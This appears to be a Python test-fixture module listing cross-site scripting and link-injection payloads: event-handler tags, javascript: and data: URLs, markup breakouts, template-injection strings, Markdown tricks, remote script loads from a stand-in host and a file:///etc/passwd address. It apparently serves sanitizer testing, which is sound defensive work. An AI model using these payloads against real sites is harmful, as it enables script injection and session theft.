"""Texts that would run a script or call another host, were they ever taken for HTML, CSS or a link.

Every one is our own spelling of a known class: tags, handlers, addresses, encodings, broken markup,
Markdown, templates, and names that a careless script would follow.
"""

RUN = "alert(1)"
AWAY = "http://away.example/x"

_ELEMENTS = (
    "img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open",
    "marquee", "iframe src=about:blank", "object data=x", "style", "select autofocus",
    "textarea autofocus", "button autofocus", "a href=# autofocus", "math", "table", "form",
)  # fmt: skip
_HANDLERS = (
    "onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover", "onpointerenter",
    "onanimationstart", "onbeforetoggle", "oncontentvisibilityautostatechange", "ontransitionend",
)  # fmt: skip
_SCHEMES = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"java\tscript:{RUN}",
    f"java\nscript:{RUN}", f"\x01javascript:{RUN}", f"javascript&colon;{RUN}",
    f"&#106;avascript:{RUN}", f"javascript://%0a{RUN}", f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", f"vbscript:{RUN}",
    f"view-source:javascript:{RUN}", f"blob:{RUN}", f"filesystem:{RUN}", f"feed:javascript:{RUN}",
    "file:///etc/passwd", "//away.example/x", "\\\\away.example\\x", f"http:javascript:{RUN}",
    f"https:javascript:{RUN}", f"http://\x00javascript:{RUN}", "ftp://away.example/x",
)  # fmt: skip

_TAGS = [f"<{element} {handler}={RUN}>" for element in _ELEMENTS for handler in _HANDLERS[:3]]
_MORE_HANDLERS = [f"<img src=x {handler}='{RUN}'>" for handler in _HANDLERS]
_SCRIPTS = [
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script src={AWAY}></script>",
    f"<script/src='{AWAY}'>", f"<script\n>{RUN}</script\n>", f"<<script>{RUN}//<</script>",
    f"</script><script>{RUN}</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script type=module>{RUN}</script>", f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<svg><script>{RUN}</script></svg>", f"<svg/onload={RUN}//",
    f"<svg><a href=javascript:{RUN}>x</a></svg>",
    f"<svg><animate attributeName=href values=javascript:{RUN} /></svg>",
    f"<math><mtext><style><img src=x onerror={RUN}></style></mtext></math>",
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>", f"<iframe src=javascript:{RUN}>",
    f"<object data=javascript:{RUN}>", f"<embed src=javascript:{RUN}>", f"<base href={AWAY}>",
    f"<link rel=stylesheet href={AWAY}>", f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<style>@import '{AWAY}';</style>", f"<div style='background:url({AWAY})'>x</div>",
    f"<form action={AWAY}><button>x</button></form>", f"<img src={AWAY}>", f"<img srcset={AWAY}>",
    f"<video poster={AWAY}>", f"<input type=image src={AWAY}>", f"<body background={AWAY}>",
    f"<a href=javascript:{RUN}>x</a>", f"<a href={AWAY} ping={AWAY}>x</a>", f"<portal src={AWAY}>",
]  # fmt: skip
_BREAKING = [
    f'"><img src=x onerror={RUN}>', f"'><img src=x onerror={RUN}>", f"--><img src=x onerror={RUN}>",
    f"]]><img src=x onerror={RUN}>", f"</textarea><img src=x onerror={RUN}>",
    f"</title><img src=x onerror={RUN}>", f"</style><img src=x onerror={RUN}>",
    f'" onfocus={RUN} autofocus x="', f"' onmouseover={RUN} x='", f"`-{RUN}-`", f"';{RUN};//",
    f"\\';{RUN};//", f"${{{RUN}}}", f"{{{{{RUN}}}}}", "{{constructor.constructor('alert(1)')()}}",
    f"<%= {RUN} %>", f"#{{{RUN}}}", f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"\\u003cimg src=x onerror={RUN}\\u003e", f"%3Cimg src=x onerror={RUN}%3E",
    f"<img src=x onerror={RUN}",
    f"<img\x00src=x onerror={RUN}>", f"<img/src=x/onerror={RUN}>", f"\uff1cscript\uff1e{RUN}",
    f"<x contenteditable onblur={RUN}>", "__proto__", "constructor", "toString", "[1](__proto__)",
]  # fmt: skip
_MARKDOWN = [f"[x]({scheme})" for scheme in _SCHEMES] + [
    f"![x]({AWAY})", f"![x](javascript:{RUN})", f"[![x]({AWAY})](javascript:{RUN})",
    f"<javascript:{RUN}>", f"[x]: javascript:{RUN}\n\n[x]", f"[x](<javascript:{RUN}>)",
    f"[a](http://ok.example/\"onmouseover={RUN}//)", f"[a](http://ok.example 'onclick={RUN}')",
    f"http://ok.example/\"onmouseover=\"{RUN}", f"`<img src=x onerror={RUN}>`",
    f"```html\n<script>{RUN}</script>\n```", f"```\"onload={RUN}\nx\n```", f"# <img src=x onerror={RUN}>",
    f"> <svg onload={RUN}>", f"- <img src=x onerror={RUN}>", f"1. [x](javascript:{RUN})",
    f"| <img src=x onerror={RUN}> | [x](javascript:{RUN}) |\n|---|---|\n| <svg onload={RUN}> | x |",
    f"**<img src=x onerror={RUN}>**", f"_<svg onload={RUN}>_", f"[<img src=x onerror={RUN}>](http://ok.example)",
    f"**[x](javascript:{RUN})**", "[1]<script>alert(1)</script>", f"[x](http://u:p@{RUN})",
]  # fmt: skip

PAYLOADS = [*_TAGS, *_MORE_HANDLERS[3:], *_SCRIPTS, *_BREAKING, *_MARKDOWN]
ADDRESSES = list(_SCHEMES)
